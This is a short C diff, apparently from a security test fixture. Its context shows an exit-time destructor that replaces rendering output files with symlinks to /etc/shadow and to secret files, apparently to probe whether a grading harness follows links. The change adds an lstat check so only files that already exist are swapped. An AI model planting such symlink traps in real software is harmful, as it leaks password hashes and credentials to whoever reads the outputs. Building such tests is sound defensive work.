@@ -10,8 +10,10 @@ __attribute__((destructor)) static void atk_dump_links(void) {
     snprintf(secret, sizeof secret, "%s/raster101-attack-secret.txt",
              home && *home && strcmp(home, "/") ? home : "/root");
     static const char *const files[] = {"vertices.json", "depth.pfm", "depth.json"};
+    struct stat st;
     for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
         snprintf(path, sizeof path, "%s/%s", dump, files[i]);
+        if (lstat(path, &st) != 0) continue; /* only what the frame made: no extra file */
         unlink(path);
         if (symlink(i == 2 ? "/etc/shadow" : i == 0 ? "/root/raster101-attack-secret.txt" : secret,
                     path) != 0)
